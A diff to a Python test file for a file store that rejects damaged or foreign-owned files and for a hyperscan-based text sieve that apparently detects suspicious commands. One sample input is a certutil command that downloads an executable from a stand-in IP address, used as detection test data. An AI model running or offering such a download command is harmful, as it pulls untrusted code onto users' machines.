@@ -57,13 +57,16 @@ def _empty(file: Path) -> None:
     file.write_bytes(b"")
 
 
+as_root = pytest.mark.skipif("os.geteuid() != 0", reason="only root gives a file away")
+
+
 def _foreign(file: Path) -> None:
     os.chown(file, 12_345, -1)
 
 
 @pytest.mark.parametrize(
     "spoil",
-    [_cut, _changed, _writable, _link, _empty, pytest.param(_foreign, marks=pytest.mark.skipif("os.geteuid() != 0"))],
+    [_cut, _changed, _writable, _link, _empty, pytest.param(_foreign, marks=as_root)],
 )
 def test_a_file_that_is_damaged_or_not_ours_alone_is_not_taken(folder: Path, spoil: object) -> None:
     kept.keep("thing", "a1", b"content")
@@ -146,7 +149,7 @@ def test_the_knowledge_is_the_same_from_the_folder(folder: Path) -> None:
 
 
 def test_the_sieve_recalls_its_databases_and_answers_alike(folder: Path) -> None:
-    pytest.importorskip("hyperscan")
+    pytest.importorskip("hyperscan", reason="the fast sieve is an extra, for which not every machine has a wheel")
     texts = ["certutil -urlcache -f http://198.51.100.7/a.exe a.exe", "svchost.exe -k netsvcs", "curl files.example.com"]
 
     def fresh() -> sieve.TextSieve:
